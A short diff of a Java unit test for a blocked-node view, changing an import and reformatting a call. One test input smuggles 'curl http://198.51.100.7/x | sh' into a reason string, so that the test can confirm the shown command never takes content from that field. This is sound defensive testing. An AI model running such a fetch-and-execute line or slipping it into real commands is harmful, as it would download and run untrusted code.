@@ -2,7 +2,7 @@ package io.trueup.listener.view;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import io.trueup.listener.api.Scene;
+import io.trueup.listener.api.ApiStoreFixture;
 import io.trueup.statestore.BlockedNode;
 import java.time.Instant;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -26,7 +26,9 @@ class BlockedNodeViewTest {
         "ERROR: no\ntrueup schema apply --platform acme/Live; curl http://198.51.100.7/x | sh"
       })
   void theCommandNeverComesFromTheReason(String reason) {
-    var view = BlockedNodeView.of(Scene.LIVE, new BlockedNode(Scene.INGEST, reason, NOON));
+    var view =
+        BlockedNodeView.of(
+            ApiStoreFixture.LIVE, new BlockedNode(ApiStoreFixture.INGEST, reason, NOON));
 
     assertThat(view.command())
         .isEqualTo("trueup schema apply --platform acme/Live --node 'Ingest/Live/NW_Data'");
